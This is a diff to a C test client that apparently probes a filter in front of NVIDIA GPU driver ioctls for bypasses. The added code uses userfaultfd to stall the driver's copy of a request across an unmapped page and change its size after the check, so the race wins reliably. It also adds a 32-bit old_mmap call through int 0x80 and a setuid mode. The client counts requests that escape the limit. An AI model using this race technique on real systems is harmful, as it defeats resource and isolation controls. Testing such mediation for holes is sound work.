@@ -6,7 +6,10 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/userfaultfd.h>
+#include <poll.h>
 #include <pthread.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -15,6 +18,7 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -169,6 +173,70 @@ static void race(struct shared *s, u64 n, u64 small, u64 big, u64 limit)
 	pthread_join(t, 0);
 }
 
+/* The race without luck. The request lies across two pages, the second of which is not there: the door reads
+   what is on the first only, the driver's copy waits for the second, and whoever brings it changes the size
+   first. So the change comes after the door has read and before the driver does, in every try. The one who asks
+   is a process of its own in the same memory, so that what kills it leaves the one who changes. */
+struct window { struct params p; struct nvos64 *a; u64 limit; u64 tries, inside, killed, survived, escaped; int share; };
+static struct window w;
+#define PAIRS 4 /* of one who asks and one who changes */
+
+static int ask(void *x)
+{
+	(void)x;
+	int mine = w.share ? fd : open("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
+	struct counts c = {0};
+	if (mine < 0 || ioctl(mine, IOC(0x2b, sizeof(*w.a)), w.a))
+		_exit(1); // refused: it got nothing
+	w.survived++;
+	if (!ioctl(mine, IOC(0xf0, sizeof(c)), &c) && c.file > w.limit)
+		w.escaped++;
+	_exit(0);
+}
+
+static int window(u64 n, u64 small, u64 big, u64 limit, int share)
+{
+	char *page = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *stack = malloc(65536);
+	int u = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
+	struct uffdio_api api = {.api = UFFD_API};
+	struct uffdio_register reg = {.range = {(u64)page + 4096, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
+	if (u < 0 || ioctl(u, UFFDIO_API, &api) || ioctl(u, UFFDIO_REGISTER, &reg)) {
+		perror("client: userfaultfd");
+		return -1;
+	}
+	w = (struct window){.a = (void *)(page + 4096 - __builtin_offsetof(struct nvos64, rights)), .limit = limit, .share = share};
+	// Who is refused at the door, as while another's file is not closed yet, was not in the window.
+	for (; w.inside < n && w.tries < 50 * n; w.tries++) {
+		// What is on the second page is brought as zeros: the driver takes 128 bytes of parameters then.
+		struct { u32 root, parent, handle, class; u64 params; } first = {CLIENT, CLIENT, 0x100, 0x40, (u64)&w.p};
+		madvise(page + 4096, 4096, MADV_DONTNEED);
+		w.p = (struct params){.size = small};
+		memcpy(w.a, &first, sizeof(first));
+		pid_t child = clone(ask, stack + 65536, CLONE_VM | SIGCHLD, 0);
+		struct pollfd f = {.fd = u, .events = POLLIN};
+		struct uffd_msg m;
+		int status;
+		if (child < 0)
+			return -1;
+		while (poll(&f, 1, 2) == 0)
+			if (waitpid(child, &status, WNOHANG) == child) // refused at the door
+				goto ended;
+		if (read(u, &m, sizeof(m)) == sizeof(m) && m.event == UFFD_EVENT_PAGEFAULT) {
+			*(volatile u64 *)&w.p.size = big;
+			struct uffdio_zeropage z = {.range = {(u64)page + 4096, 4096}};
+			if (ioctl(u, UFFDIO_ZEROPAGE, &z))
+				return -1;
+			w.inside++;
+		}
+		waitpid(child, &status, 0);
+	ended:
+		if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
+			w.killed++;
+	}
+	close(u);
+	return 0;
+}
+
 /* Frees that the door sees and the driver does not do. */
 static void forge(u64 n, u64 bytes)
 {
@@ -251,6 +319,19 @@ int main(int argc, char **argv)
 		else if (IS("null")) { struct nvos64 a = {CLIENT, CLIENT, 1, 0x40, 0, 0, 128, 0, 0, 0}; rc = ioctl(fd, IOC(0x2b, sizeof(a)), &a); }
 		else if (IS("short")) { char a[36] = {0}; rc = ioctl(fd, IOC(0x2b, sizeof(a)), a); }
 		else if (IS("dup")) { u32 a[7] = {CLIENT, CLIENT, 1, v[0], 1, 0, 0}; rc = ioctl(fd, IOC(0x34, sizeof(a)), a); }
+		else if (IS("host")) { u32 a[14] = {CLIENT, CLIENT, 1, v[0]}; rc = ioctl(fd, IOC(0x27, sizeof(a)), a); } // NV_ESC_RM_ALLOC_MEMORY of a class
+#ifdef __x86_64__
+		else if (IS("mmap32")) { // old_mmap: the 32-bit call, whose length is where the 64-bit one has none
+			u32 *a = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+			int u = open("/dev/nvidia-uvm", O_RDWR);
+			long r;
+			a[1] = v[0]; a[2] = PROT_READ | PROT_WRITE; a[3] = MAP_SHARED; a[4] = u;
+			__asm__ volatile("int $0x80" : "=a"(r) : "a"(90L), "b"((long)(u32)(u64)a) : "memory", "r8", "r9", "r10", "r11");
+			rc = u < 0 || ((int)r < 0 && (int)r > -4096) ? -1 : 0;
+			errno = rc && u >= 0 ? -(int)r : errno;
+		}
+#endif
+		else if (IS("asuser")) rc = setuid(v[0]);
 		else if (IS("mmap")) { int u = open("/dev/nvidia-uvm", O_RDWR); rc = u < 0 || mmap(0, v[0], PROT_READ | PROT_WRITE, MAP_SHARED, u, 0) == MAP_FAILED ? -1 : 0; }
 		else if (IS("open")) { rc = open(path, O_RDWR); if (rc >= 0) { close(rc); rc = 0; } }
 		else if (IS("sleep")) usleep(v[0] * 1000);
@@ -292,7 +373,7 @@ int main(int argc, char **argv)
 			}
 			struct timespec now;
 			clock_gettime(CLOCK_MONOTONIC, &now);
-			printf("grabbed %llu at %llu asked %llu\n", (unsigned long long)counts().file, (unsigned long long)(now.tv_sec * 1000000000ull + now.tv_nsec), (unsigned long long)asked);
+					printf("grabbed %llu at %llu asked %llu\n", (unsigned long long)counts().file, (unsigned long long)(now.tv_sec * 1000000000ull + now.tv_nsec), (unsigned long long)asked);
 			sleep(30);
 			continue;
 		} else if (IS("hammer")) { // for so many ms: requests of so many bytes; how many passed
@@ -323,8 +404,37 @@ int main(int argc, char **argv)
 				if (WIFSIGNALED(w)) killed++;
 			}
 			struct counts c = counts();
-			printf("race tries %llu reached %llu killed %llu refused %llu escaped %llu most %llu taken-above %llu\n", (unsigned long long)s->tries,
-			       (unsigned long long)c.allocations, (unsigned long long)killed, (unsigned long long)s->refused, (unsigned long long)s->escaped, (unsigned long long)s->most, (unsigned long long)c.window);
+			printf("race tries %llu passed %llu killed %llu refused %llu escaped %llu most %llu taken-above %llu\n", (unsigned long long)s->tries,
+			       (unsigned long long)s->passed, (unsigned long long)killed, (unsigned long long)s->refused, (unsigned long long)s->escaped, (unsigned long long)s->most, (unsigned long long)c.window);
+			continue;
+		} else if (IS("window") || IS("sharedwindow")) { // tries in the window, small, big, limit
+			struct window *sum = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+			int pairs = v[0] >= PAIRS ? PAIRS : 1, failed = 0;
+			fflush(stdout);
+			for (int k = 0; k < pairs; k++) {
+				if (fork())
+					continue;
+				u64 n = v[0] / pairs + ((u64)k < v[0] % pairs);
+				// A pair stays on a processor: else each change of its page table waits for another's.
+				cpu_set_t one;
+				CPU_ZERO(&one);
+				CPU_SET(k % sysconf(_SC_NPROCESSORS_ONLN), &one);
+				sched_setaffinity(0, sizeof(one), &one);
+				if (window(n, v[1], v[2], v[3], IS("sharedwindow")))
+					_exit(1);
+				u64 *to[] = {&sum->tries, &sum->inside, &sum->killed, &sum->survived, &sum->escaped}, from[] = {w.tries, w.inside, w.killed, w.survived, w.escaped};
+				for (int j = 0; j < 5; j++)
+					__sync_fetch_and_add(to[j], from[j]);
+				_exit(0);
+			}
+			for (int w; wait(&w) > 0;)
+				failed |= w;
+			if (failed)
+				return 1;
+			w = *sum;
+			struct counts c = counts();
+			printf("%s tries %llu inside %llu taken-above %llu killed %llu survived %llu escaped %llu\n", name, (unsigned long long)w.tries, (unsigned long long)w.inside,
+			       (unsigned long long)c.window, (unsigned long long)w.killed, (unsigned long long)w.survived, (unsigned long long)w.escaped);
 			continue;
 		} else if (IS("counts")) {
 			struct counts c = counts();
